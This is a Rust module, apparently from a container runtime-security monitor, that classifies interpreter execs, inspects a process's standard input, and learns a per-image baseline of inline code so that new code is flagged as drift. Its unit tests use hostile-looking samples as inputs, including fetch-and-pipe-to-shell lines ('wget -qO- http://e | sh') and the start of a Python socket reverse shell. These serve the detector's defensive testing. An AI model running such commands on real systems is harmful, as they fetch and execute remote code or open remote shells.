//! Inline code as its own fact: at each exec of an interpreter, what it runs (script, inline
//! code, stdin, other), the code itself (bounded), what its standard input is, and whether
//! the image's baseline learned such inline code during its learning window. Script files
//! are judged elsewhere (interpreter drift, `exec_verdict`); this only tells and learns.

use std::sync::Mutex;

use driftwatch_model::{
    InterpreterFamily, InterpreterRun, Interpreters, InvocationKind, StdinSource, classify,
};

use crate::baseline::{BaselineStore, Decision, InlineKey};
use crate::containers::ContainerEntry;

/// At most this many bytes of the code's head go into a learning key.
const HEAD_MAX: usize = 64;

/// The interpreter fact of an exec of `exe_path` with `argv`, or `None` when it is not an
/// interpreter. `pid` is the live process (host pid), whose fd 0 is read when the program
/// comes from standard input.
pub fn interpreter_run(
    interpreters: &Interpreters,
    exe_path: &str,
    argv: &[String],
    args_truncated: bool,
    pid: u32,
) -> Option<InterpreterRun> {
    // `busybox sh -c CODE`: the applet's arguments.
    let argv = driftwatch_model::applet_argv(exe_path, argv);
    let family = interpreters.family_of(exe_path, argv.first()?)?;
    let invocation = classify(family, argv);
    Some(InterpreterRun::new(
        family,
        &invocation,
        args_truncated,
        || stdin_of(pid),
    ))
}

/// What fd 0 of a live process is. A process that is gone (or that exited between exec and
/// this read) cannot be told: [`StdinSource::Gone`]. An exiting process (a zombie) has closed
/// every descriptor: gone too, not `closed`, which is a live process without fd 0 among others.
pub fn stdin_of(pid: u32) -> StdinSource {
    match driftwatch_fs::host::proc_link(pid, "fd/0") {
        Ok(link) => StdinSource::from_fd_link(&link.to_string_lossy()),
        Err(_) => match driftwatch_fs::host::proc_fd_links(pid) {
            Ok(fds) if !fds.is_empty() => StdinSource::Closed,
            _ => StdinSource::Gone,
        },
    }
}

/// The learning key of inline code run by a process whose parent is named `parent` (see
/// [`InlineKey`] for why these parts).
pub fn inline_key(run: &InterpreterRun, parent: &str) -> InlineKey {
    let (flag, head) = match run.invocation {
        InvocationKind::Inline => (run.flag.clone(), code_head(run.family, &run.code)),
        _ => ("stdin".to_string(), String::new()),
    };
    InlineKey {
        family: run.family,
        flag,
        parent: if is_runtime(parent) {
            RUNTIME_PARENT.to_string()
        } else {
            parent.to_string()
        },
        head,
    }
}

/// The parent of a process the container runtime started (entrypoint, `docker exec`,
/// `kubectl exec`, health check) in a learning key.
pub const RUNTIME_PARENT: &str = "<runtime>";

/// Whether a parent's name is the container runtime's or its shim's. A process started by
/// `runc exec` execs while its parent is `runc` or, once `runc` has exited, the shim that
/// reaps it: which one the kernel names at exec is a race, so both are the same parent here.
fn is_runtime(comm: &str) -> bool {
    const RUNTIMES: [&str; 6] = [
        "runc",
        "crun",
        "youki",
        "runsc",
        "conmon",
        "containerd-shim",
    ];
    RUNTIMES.iter().any(|r| {
        comm.strip_prefix(r)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '-']))
    })
}

/// The part of inline code that names what it does: a shell's first command word (after
/// variable assignments: `X=1 exec curl ...` is `exec`), another language's first
/// statement, at most [`HEAD_MAX`] bytes.
fn code_head(family: InterpreterFamily, code: &str) -> String {
    let code = code.trim_start();
    let head = if family == InterpreterFamily::Shell {
        code.split(|c: char| c.is_whitespace() || ";|&()<>'\"`".contains(c))
            .find(|w| !w.is_empty() && !is_assignment(w))
            .unwrap_or("")
    } else {
        code.split([';', '\n']).next().unwrap_or("").trim_end()
    };
    let mut end = head.len().min(HEAD_MAX);
    while !head.is_char_boundary(end) {
        end -= 1;
    }
    head[..end].to_string()
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

/// Fills `run.learned` for inline code from the image's baseline (learning it while the
/// image's window is open). Nothing for other invocations or an unknown image.
pub fn learn(
    store: &Mutex<BaselineStore>,
    entry: &ContainerEntry,
    run: &mut InterpreterRun,
    parent: &str,
    now: u64,
) {
    if !run.is_inline_code() {
        return;
    }
    let Some((key, name)) = crate::net_drift::image_key(entry) else {
        return;
    };
    let item = inline_key(run, parent);
    let decision = store
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .observe_inline(&key, &name, &item, now);
    run.learned = Some(!matches!(decision, Decision::Drift { .. }));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn heads_name_the_command_not_its_arguments() {
        let sh = InterpreterFamily::Shell;
        assert_eq!(code_head(sh, "curl -f http://localhost/health"), "curl");
        assert_eq!(
            code_head(sh, "  FOO=1 BAR=x exec nginx -g 'daemon off;'"),
            "exec"
        );
        assert_eq!(code_head(sh, "(wget -qO- http://e | sh)"), "wget");
        assert_eq!(code_head(sh, "'/tmp/x' a"), "/tmp/x");
        assert_eq!(code_head(sh, ""), "");
        let py = InterpreterFamily::Python;
        assert_eq!(
            code_head(py, "import socket,os; s=socket.socket()"),
            "import socket,os"
        );
        assert_eq!(code_head(py, "print(1)\nprint(2)"), "print(1)");
        let long = "é".repeat(100);
        let h = code_head(py, &long);
        assert!(h.len() <= HEAD_MAX && long.starts_with(&h));
    }

    #[test]
    fn keys_tell_parents_and_commands_apart() {
        let i = Interpreters::default();
        let run = |a: &[&str]| interpreter_run(&i, "/bin/sh", &argv(a), false, 0).unwrap();
        let health = inline_key(&run(&["sh", "-c", "curl -f localhost"]), "containerd-shim");
        let health_again = inline_key(
            &run(&["sh", "-c", "curl -f localhost:81"]),
            "containerd-shim",
        );
        assert_eq!(health, health_again, "arguments do not make a new key");
        let by_exec = inline_key(&run(&["sh", "-c", "wget -qO- e | sh"]), "containerd-shim");
        assert_ne!(health, by_exec);
        let injected = inline_key(&run(&["sh", "-c", "curl -f localhost"]), "node");
        assert_ne!(health, injected);
        assert_eq!((health.flag.as_str(), health.head.as_str()), ("-c", "curl"));
        // busybox run by its own name runs the applet its first argument names.
        let applet = interpreter_run(
            &i,
            "/bin/busybox",
            &argv(&["busybox", "sh", "-c", "id"]),
            false,
            0,
        )
        .unwrap();
        assert_eq!((applet.flag.as_str(), applet.code.as_str()), ("-c", "id"));
        // Whether `runc` or the shim is the parent at exec is a race: one parent.
        let by_runc = inline_key(&run(&["sh", "-c", "curl -f localhost"]), "runc");
        assert_eq!(by_runc, health);
        assert_eq!(health.parent, RUNTIME_PARENT);
        for name in ["runc:[2:INIT]", "conmon", "crun", "runsc-gofer"] {
            assert!(is_runtime(name), "{name}");
        }
        for name in ["runcible", "sh", "node", "containerd"] {
            assert!(!is_runtime(name), "{name}");
        }
    }

    #[test]
    fn stdin_of_a_live_process_and_of_a_gone_one() {
        let mut child = std::process::Command::new("sleep")
            .arg("5")
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        assert_eq!(stdin_of(child.id()), StdinSource::Pipe);
        child.kill().unwrap();
        child.wait().unwrap();
        assert_eq!(stdin_of(child.id()), StdinSource::Gone);
        let mut null = std::process::Command::new("sleep")
            .arg("5")
            .stdin(std::process::Stdio::null())
            .spawn()
            .unwrap();
        assert_eq!(stdin_of(null.id()), StdinSource::Null);
        null.kill().unwrap();
        null.wait().unwrap();
        // A zombie (exited, not yet reaped) has no descriptors left: gone, not closed.
        let mut zombie = std::process::Command::new("true")
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let start = std::time::Instant::now();
        let state = |pid: u32| {
            let stat = driftwatch_fs::host::proc_string(pid, "stat").unwrap_or_default();
            stat.rsplit(')')
                .next()
                .unwrap_or_default()
                .trim()
                .chars()
                .next()
        };
        while state(zombie.id()) != Some('Z') {
            assert!(start.elapsed() < std::time::Duration::from_secs(5));
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        assert_eq!(stdin_of(zombie.id()), StdinSource::Gone);
        zombie.wait().unwrap();
    }

    #[test]
    fn learned_during_the_window_and_not_after() {
        use std::time::Duration;
        let store = Mutex::new(BaselineStore::open(None, Duration::from_secs(60)).unwrap());
        let i = Interpreters::default();
        let mut run = interpreter_run(
            &i,
            "/usr/bin/python3.11",
            &argv(&["python3", "-c", "print(1)"]),
            false,
            0,
        )
        .unwrap();
        let key = inline_key(&run, "sh");
        let mut s = store.lock().unwrap();
        assert_eq!(
            s.observe_inline("sha256:1", "app:1", &key, 100),
            Decision::Learned
        );
        assert_eq!(
            s.observe_inline("sha256:1", "app:1", &key, 1000),
            Decision::Known
        );
        let other = inline_key(&run, "node");
        assert_eq!(
            s.observe_inline("sha256:1", "app:1", &other, 1000),
            Decision::Drift { learned: false }
        );
        assert!(s.data().images["sha256:1"].inline_code.contains(&key));
        drop(s);
        run.invocation = InvocationKind::Other;
        assert!(!run.is_inline_code());
    }
}
